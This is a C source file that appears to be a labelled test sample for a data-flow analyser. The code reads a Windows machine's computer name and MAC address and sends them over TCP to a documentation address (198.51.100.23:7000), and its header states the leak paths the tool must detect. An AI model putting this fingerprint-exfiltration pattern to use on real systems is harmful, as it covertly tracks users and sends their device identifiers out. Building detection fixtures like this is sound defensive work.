/* winsock_fingerprint: sample title (s). LEAKY, Windows device fingerprint.
 *
 * What it does: reads the computer name (GetComputerNameA) and the first
 * adapter's MAC address (GetAdaptersInfo), formats both and sends them over
 * TCP with send() (Winsock in the PE build) to 198.51.100.23:7000 (TEST-NET-2,
 * a documentation address). Each value is read in a helper of its own.
 *
 * What cordon must find: two exfiltration paths into sink send, from
 * GetComputerNameA and from GetAdaptersInfo (both os, device), dataflow,
 * endpoint 198.51.100.23 (unknown vendor): high under zero-trust.
 *
 * Running it (Linux builds, with the mock Windows APIs): the listener on
 * 198.51.100.23:7000 receives "fp name=MOCK-PC-7 mac=02:00:5e:10:00:02". */
#include "sample_net.h"

#include <win32/win32_compat.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

SAMPLE_KEEP static void read_name(char* out, DWORD size) {
  if (!GetComputerNameA(out, &size)) out[0] = '\0';
}

SAMPLE_KEEP static void read_mac(char* out, size_t size) {
  unsigned char mac[6] = {0};
  ULONG bytes = 16 * sizeof(IP_ADAPTER_INFO);
  IP_ADAPTER_INFO* list = malloc(bytes);
  if (list != NULL && GetAdaptersInfo(list, &bytes) == ERROR_SUCCESS && list->AddressLength >= 6) {
    memcpy(mac, list->Address, 6);
  }
  free(list);
  snprintf(out, size, "%02x:%02x:%02x:%02x:%02x:%02x", mac[0], mac[1], mac[2], mac[3], mac[4],
           mac[5]);
}

SAMPLE_KEEP static long send_report(const char* payload, int length) {
  sample_socket_t fd = socket(AF_INET, SOCK_STREAM, 0);
  if (fd == SAMPLE_BAD_SOCKET) return -1;
  struct sockaddr_in to;
  memset(&to, 0, sizeof to);
  to.sin_family = AF_INET;
  to.sin_port = htons(7000);
  inet_pton(AF_INET, "198.51.100.23", &to.sin_addr);
  long sent = -1;
  if (connect(fd, (const struct sockaddr*)&to, sizeof to) == 0) {
    sent = (long)send(fd, payload, length, 0);
  }
  sample_close_socket(fd);
  return sent;
}

int main(void) {
  if (sample_net_init() != 0) return 1;
  char name[64];
  read_name(name, sizeof name);
  char mac[18];
  read_mac(mac, sizeof mac);
  char payload[128];
  int length = snprintf(payload, sizeof payload, "fp name=%s mac=%s", name, mac);
  long sent = send_report(payload, length);
  printf("sample: send 198.51.100.23:7000 %s\n", sent == length ? "sent" : "failed (offline)");
  return 0;
}
